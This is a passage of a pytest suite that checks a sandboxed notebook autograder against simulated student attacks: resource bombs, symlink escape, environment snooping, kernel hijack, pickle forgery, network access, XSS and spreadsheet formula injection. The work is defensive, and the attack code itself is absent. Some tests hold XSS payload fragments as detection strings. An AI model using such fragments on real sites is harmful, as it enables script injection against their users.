    for pid, _ in r.survivors:  # started by this run's students: stop them
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    r.report_text_later, _ = _read_report(course)
    listener.close()
    r.connections = list(listener.seen)
    try:
        with open(course / "grades.csv", newline="") as fh:
            r.grades = list(csv.DictReader(fh))
    except OSError:
        r.grades = []
    print(f"grading run: exit {r.returncode} in {r.seconds:.0f} s ({'sandboxed' if usable else 'NO SANDBOX'})")
    print(r.stdout[-6000:])
    yield r
    # anything planted outside the temporary folders goes (only files named with this run's token)
    for folder in site_dirs(home) | {REPO, REPO / "cnnkit"}:
        (folder / marks["site_file"]).unlink(missing_ok=True)


# ----------------------------------------------------------------------------------------- the whole class
def test_grader_finishes_without_a_traceback(run):
    assert run.returncode in (0, 1), f"grader exit {run.returncode}\n{run.stderr[-4000:]}"
    assert "Traceback (most recent call last)" not in run.stderr, run.stderr[-4000:]
    assert set(run.report) == set(run.students), (sorted(set(run.students) - set(run.report)),
                                                  sorted(set(run.report) - set(run.students)))
    errors = [s for s, row in run.report.items() if row["status"] == "error"]
    assert (run.returncode == 1) == bool(errors), (run.returncode, errors)


def test_every_submission_ran_in_the_sandbox(run):
    """No silent fall-back: where a sandbox is available, no report row may say the code ran without it."""
    if not run.full_strength:
        pytest.skip("forced run without a sandbox (CNNKIT_ATTACKS_FORCE)")
    unsandboxed = {s: row.get("sandbox") for s, row in run.report.items()
                   if "unsandboxed" in f"{row.get('sandbox', '')} {row['detail']}".lower()}
    assert not unsandboxed, unsandboxed


def test_controls_get_their_scores_in_the_same_run(run):
    got = {student: run.score(student) for student in CONTROL_SCORES}
    assert got == CONTROL_SCORES, got
    assert run.row("honest")["status"] == "graded", run.row("honest")


def test_every_student_has_a_row_with_the_assignment_max(run):
    maxima = {student: float(run.row(student)["max_score"]) for student in run.students}
    assert set(maxima.values()) == {run.max_score}, maxima
    missing = [s for s in run.students if run.csv_score(s) is None]
    assert not missing, f"not in grades.csv (or twice): {missing}"
    for student in run.students:
        assert run.csv_score(student) == run.score(student), (student, run.csv_score(student), run.score(student))


def test_solutions_are_unchanged(run):
    assert snapshot(run.course / "solutions") == run.before["solutions"]


def test_every_handin_is_byte_identical(run):
    now = snapshot(run.course / "submitted")
    changed = sorted(k for k in set(now) | set(run.before["submitted"]) if now.get(k) != run.before["submitted"].get(k))
    assert not changed, changed[:20]


def test_canaries_are_unchanged_and_never_leak(run):
    assert sha256(run.course / "instructor_secret.txt") == run.before["course_secret"]
    assert sha256(run.home / "instructor_secret.txt") == run.before["home_secret"]
    assert snapshot(run.data) == run.before["data"]
    leaks = {name: run.where(token) for name, token in run.tokens.items()}
    assert not any(leaks.values()), {name: hits for name, hits in leaks.items() if hits}


def test_no_student_process_outlives_the_grader(run):
    assert not run.survivors, run.survivors


# ----------------------------------------------------------------------------------------- one attack each
def test_patch_testing_scores_no_more_than_plain_wrong_code(run):
    assert run.score("patch_testing") <= run.score("wrong"), run.row("patch_testing")


def test_null_forbid_earns_nothing_for_the_functions_it_delegates(run):
    assert run.score("null_forbid") <= 4.0, run.row("null_forbid")


def test_read_solutions_finds_nothing_to_copy(run):
    assert run.score("read_solutions") == 0.0, run.row("read_solutions")
    hits = run.where("### BEGIN SOLUTION", "read_solutions") + run.where("### BEGIN SOLUTION")
    assert not hits, hits


def test_vandal_cannot_hurt_the_class(run):
    run.require("vandal")
    now = snapshot(run.course / "submitted")
    others = {k: v for k, v in run.before["submitted"].items() if not k.startswith("vandal/")}
    assert {k: now.get(k) for k in others} == others, "a classmate's hand-in was changed or deleted"
    assert snapshot(run.course / "solutions") == run.before["solutions"], "solutions/ was changed"
    assert sqlite_ok(run.course / "gradebook.db"), "the gradebook was damaged"
    assert all(run.csv_score(s) is not None for s in run.students), "grades.csv lost students"
    for student, expected in CONTROL_SCORES.items():
        assert run.score(student) == expected, (student, run.row(student))
        assert (run.course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").exists(), student
    assert run.score("vandal") == 0.0


def sqlite_ok(path: Path) -> bool:
    import sqlite3

    try:
        con = sqlite3.connect(path)
        try:
            return con.execute("PRAGMA integrity_check").fetchone()[0] == "ok" and bool(
                con.execute("SELECT count(*) FROM grade").fetchone()[0])
        finally:
            con.close()
    except sqlite3.Error:
        return False


def test_env_leak_sees_no_grader_environment(run):
    run.require("env_leak")
    own = run.where(run.tokens["env"], "env_leak")
    assert not own, f"env_leak shows the grader's environment in {own}"
    anywhere = run.where(run.tokens["env"])
    assert not anywhere, f"the grader's environment reached {anywhere}"
    assert run.score("env_leak") == 0.0


def test_proc_snoop_sees_no_other_process(run):
    run.require("proc_snoop")
    assert run.score("proc_snoop") == 0.0, run.row("proc_snoop")
    assert not run.where(run.tokens["env"], "proc_snoop")
    for path in {str(run.course), os.path.realpath(run.course)}:
        hits = run.where(path, "proc_snoop", kinds=("feedback",))
        assert not hits, f"the course folder {path} shows in {hits}"


def test_symlink_escape_reads_and_writes_nothing_outside(run):
    run.require("symlink_escape")
    honest_before = {k: v for k, v in run.before["submitted"].items() if k.startswith("honest/")}
    honest_now = {k: v for k, v in snapshot(run.course / "submitted").items() if k.startswith("honest/")}
    assert honest_now == honest_before, "the honest student's hand-in was changed"
    for name in ("course_secret", "home_secret"):
        hits = run.where(run.tokens[name])
        assert not hits, f"{name} leaked into {hits}"
    assert run.score("symlink_escape") == 0.0
    assert run.score("honest") == AUTO_POINTS


def test_cache_write_leaves_the_data_cache_alone(run):
    run.require("cache_write")
    assert snapshot(run.data) == run.before["data"], "the data-set cache ($CNNKIT_DATA) changed"
    assert snapshot(run.home / ".cache" / "cnnkit") == run.before["home_cache"], "~/.cache/cnnkit changed"
    assert run.score("cache_write") == 0.0


def test_self_grade_gets_zero(run):
    assert run.score("self_grade") == 0.0, run.row("self_grade")
    assert run.csv_score("self_grade") == 0.0, "grades.csv shows a self-given score"
    assert float(run.row("self_grade")["max_score"]) == run.max_score
    assert run.score("honest") == AUTO_POINTS


def test_forged_outputs_score_no_more_than_plain_wrong_code(run):
    row = run.row("forged_outputs")
    assert float(row["score"]) <= run.score("wrong"), row
    assert float(row["max_score"]) == run.max_score, row


def test_network_reaches_nothing(run):
    run.require("network")
    assert not run.connections, f"the listener on 127.0.0.1 was reached from {run.connections}"
    assert not run.where("NETWORK-REACHED", "network"), run.where("NETWORK-REACHED", "network")
    assert run.score("network") == 0.0


def test_fork_bomb_is_contained_and_reported(run):
    assert run.score("fork_bomb") == 0.0, run.row("fork_bomb")
    assert run.limited("fork_bomb"), f"no limit reported: {run.row('fork_bomb')}"
    assert run.score("honest") == AUTO_POINTS


def test_memory_bomb_is_contained_and_reported(run):
    assert run.score("memory_bomb") == 0.0, run.row("memory_bomb")
    assert run.limited("memory_bomb"), f"no limit reported: {run.row('memory_bomb')}"
    assert run.score("honest") == AUTO_POINTS


def test_patch_builtins_gains_nothing(run):
    assert run.score("patch_builtins") <= run.score("conv2d_none"), run.row("patch_builtins")


def test_kill_parent_hurts_only_itself(run):
    row = run.row("kill_parent")
    assert float(row["score"]) == 0.0, row
    assert run.returncode in (0, 1)
    for student, expected in CONTROL_SCORES.items():
        assert run.score(student) == expected, (student, run.row(student))
    evidence = run.evidence / "kill_parent.txt"
    if evidence.exists():  # the kernel could write outside its sandbox: it notes whom it could have killed
        could = dict(line.split("\t") for line in evidence.read_text().splitlines())
        assert str(os.getpid()) not in could, "the student could have killed the test run itself"
        outside = sorted({kind for kind in could.values() if kind != "other"})
        assert not outside, f"the student could have killed processes outside its sandbox: {outside}"


def test_hide_errors_earns_nothing(run):
    assert run.score("hide_errors") == 0.0, run.row("hide_errors")


def test_hijack_kernel_reaches_no_classmate(run):
    run.require("hijack_kernel")
    mark = "HIJACKED-" + run.marks["hijack"]
    hits = [h for h in run.where(mark) if not h.split(os.sep)[1] == "hijack_kernel"]
    assert not hits, f"code ran in a classmate's kernel: {hits}"
    assert run.score("hijack_kernel") == 0.0


def test_lurker_leaves_nothing_behind(run):
    run.require("lurker")
    assert not [s for s in run.survivors if run.marks["lurker"] in s[1]], run.survivors
    assert run.report_text_later == run.report_text, "the grading report changed after the grader returned"
    assert run.score("lurker") == 0.0, run.row("lurker")


def test_poison_site_plants_nothing(run):
    run.require("poison_site")
    planted = [str(folder / run.marks["site_file"]) for folder in site_dirs(run.home) | {REPO, REPO / "cnnkit"}
               if (folder / run.marks["site_file"]).exists()]
    assert not planted, f"files Python reads at start-up were planted: {planted}"
    assert run.score("poison_site") == 0.0


def test_leak_hidden_shows_no_hidden_test(run):
    run.require("leak_hidden")
    assert run.hidden_lines, "no hidden-test lines found in the source"
    shown = {line: run.where(line, "leak_hidden", kinds=("feedback",)) for line in run.hidden_lines}
    shown = {line: hits for line, hits in shown.items() if hits}
    assert not shown, f"hidden tests in the feedback: {list(shown)[:5]}"
    assert run.score("leak_hidden") == 0.0


# ----------------------------------------------------------------------------------------- round 2 (issue 22)
def _outputs_text(run, student: str) -> str:
    run.require(student)
    path = run.course / "autograded" / student / ASSIGNMENT / NOTEBOOK
    return readable_text(path) if path.exists() else ""


def test_zeros_earns_no_more_than_plain_wrong_code(run):
    """The yardstick for the round-2 attacks: functions that do no work."""
    assert run.score("zeros") <= run.score("wrong")


def test_a_moved_or_deleted_setup_cell_is_restored_and_says_so(run):
    for student in ("setup_moved_honest", "setup_deleted_honest"):
        row = run.row(student)
        assert "restored" in row["detail"] and "setup" in row["detail"], row


@pytest.mark.parametrize("attacker", ["setup_moved", "setup_deleted", "np_proxy", "zero_args"])
def test_round2_tricks_earn_no_more_than_doing_nothing(run, attacker):
    assert run.score(attacker) <= run.score("zeros"), run.row(attacker)


def test_forged_handles_run_nothing_and_earn_nothing(run):
    assert run.score("forged_handles") <= run.score("zeros"), run.row("forged_handles")
    assert not Path(f"/tmp/{run.marks['forger']}-pwned").exists(), "a pickle from the kernel ran on the host"
    for secret in (run.tokens["env"], run.tokens["course_secret"], run.tokens["home_secret"]):
        assert not run.where(secret, "forged_handles")
    for line in run.hidden_lines:
        assert not run.where(line, "forged_handles", kinds=("feedback",)), line
    assert run.score("honest") == 26.0


def test_a_big_answer_is_refused_by_the_budget_and_hurts_nobody(run):
    assert run.score("big_answer") <= run.score("zeros")
    assert "budget" in _outputs_text(run, "big_answer")
    assert run.score("honest") == 26.0


def test_dev_shm_is_bounded(run):
    text = _outputs_text(run, "shm_fill")
    found = re.search(r"SHM-WROTE (\d+)", text)
    assert found, text[-2000:]
    assert int(found.group(1)) <= 64 << 20


def test_channel_litter_is_gone_after_grading(run):
    text = _outputs_text(run, "channel_fill")
    found = re.search(r"CHANNEL-LITTER (\S+)", text)
    assert found, text[-2000:]
    assert not Path(found.group(1)).exists()
    assert not Path(found.group(1)).parent.exists()


def test_memory_is_bounded_for_the_whole_sandbox(run):
    """Three processes of 900 MiB cannot all hold their memory in a 2 GiB sandbox (where a cgroup can be made)."""
    from cnnkit.grading.policy import Limits
    from cnnkit.grading.sandbox import make_cgroups, remove_cgroups

    groups = make_cgroups(Limits())
    remove_cgroups(groups)
    if not any("memory" in str(g) or (g / "memory.max").exists() for g in groups):
        pytest.skip("no memory cgroup can be made here: only per-process bounds hold (the README says so)")
    text = _outputs_text(run, "three_procs")
    found = re.search(r"HELD (\d)", text)
    assert (found and int(found.group(1)) < 3) or run.limited("three_procs"), text[-2000:]



# ----------------------------------------------------------------------------------------- round 3 (red team)
def test_no_student_script_reaches_the_instructors_browser(run):
    """Graded notebooks and feedback keep text and images of a student's outputs: no HTML, JS, SVG, Markdown."""
    assert run.score("xss") == 26.0  # its code is right: only the outputs go
    mark = run.marks["xss"]
    for path in run.files("xss", kinds=("feedback",)):  # the code is shown escaped; an output would be raw
        text = path.read_bytes().decode("utf-8", "replace")
        for raw in (f"<script>window.{mark}", "<img src=x onerror", f"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>"):
            assert raw not in text, (path, raw)
    nb = nbformat.read(run.course / "autograded" / "xss" / ASSIGNMENT / NOTEBOOK, as_version=4)
    kinds = {kind for cell in nb.cells if cell.cell_type == "code" for out in cell.get("outputs", [])
             for kind in out.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg", "image/gif"}, kinds
    outputs = json.dumps([cell.get("outputs", []) for cell in nb.cells])
    assert mark not in outputs


def test_the_kernel_holds_no_file_of_the_host(run):
    text = _outputs_text(run, "logwrite")
    targets = re.findall(r"FD (\d) ([^\s\\\"]+)", text)
    assert len(targets) == 3, text[-2000:]
    assert all(target in ("/dev/null", "unreadable") for _, target in targets), targets
    assert run.score("logwrite") == 26.0


def test_an_output_flood_is_capped(run):
    run.require("outflood")
    path = run.course / "autograded" / "outflood" / ASSIGNMENT / NOTEBOOK
    assert path.stat().st_size < 24 << 20
    assert run.score("outflood") == 26.0


def test_compiled_copies_of_hidden_modules_are_hidden_too(run):
    text = _outputs_text(run, "pyc_orphan")
    found = re.search(r"PYC-FOUND (\d+)", text)
    assert found and found.group(1) == "0", text[-2000:]


# ----------------------------------------------------------------------------------------- round 3
def test_no_script_in_a_markdown_answer_reaches_the_formgrader(run):
    """The answer cell is cleaned in the graded notebook (what the formgrader renders) and the feedback; the
    plain answer of the same student is left exactly as written; points are untouched; the row says so."""
    assert run.score("md_xss") == 26.0
    mark = run.marks["xss"]
    nb = nbformat.read(run.course / "autograded" / "md_xss" / ASSIGNMENT / NOTEBOOK, as_version=4)
    answer = next(c for c in nb.cells if nbg(c).get("grade_id") == "q_corr_vs_conv").source
    plain = next(c for c in nb.cells if nbg(c).get("grade_id") == "q_filters").source
    from nbconvert.filters import markdown2html

    from html_checks import runs

    rendered = markdown2html(answer)                  # as nbgrader's formgrade template renders it
    assert not runs(rendered), rendered
    assert "Symmetric kernels." in rendered and plain == "The box filter blurs; the Sobel filters find edges."
    for path in run.files("md_xss", kinds=("feedback",)):
        text = path.read_bytes().decode("utf-8", "replace")
        assert f"<script>window.{mark}" not in text and not [r for r in runs(text) if mark in r[2]], path
    assert "shown cleaned" in run.report["md_xss"]["detail"]
    assert "shown cleaned" not in run.report["honest"]["detail"]     # the instructor's own Markdown is never flagged


def test_forged_timeout_and_memory_errors_do_not_hide_tampering(run):
    """Statuses come from what the grader and the sandbox saw, not from error names a student can raise."""
    row = run.report["fake_status"]
    assert row["status"] == "tampered test cells (restored)", row
    assert "interrupted at the per-cell time limit" not in row["detail"]     # the grader interrupted nothing
    assert "stopped by the sandbox's bounds" not in row["detail"]            # the sandbox counted nothing
    assert "the code's own raise" in row["detail"]                           # what it raised, said as such
    assert run.score("fake_status") <= run.score("wrong")


def test_a_timestamp_linked_to_a_fifo_blocks_nobody(run):
    """The link is not followed: no timestamp for that student, the class graded (the run finished)."""
    assert run.score("ts_fifo") == 26.0 and run.report["ts_fifo"]["timestamp"] == ""
    assert run.score("honest") == 26.0


def test_no_report_cell_starts_a_spreadsheet_formula(run):
    text = (run.course / f"grading_report_{ASSIGNMENT}.csv").read_text()
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], "formula in the report"
    assert run.score("ts_formula") == 26.0 and run.report["ts_formula"]["timestamp"] == ""
    assert "timestamp.txt (not a time" in run.report["ts_formula"]["detail"]
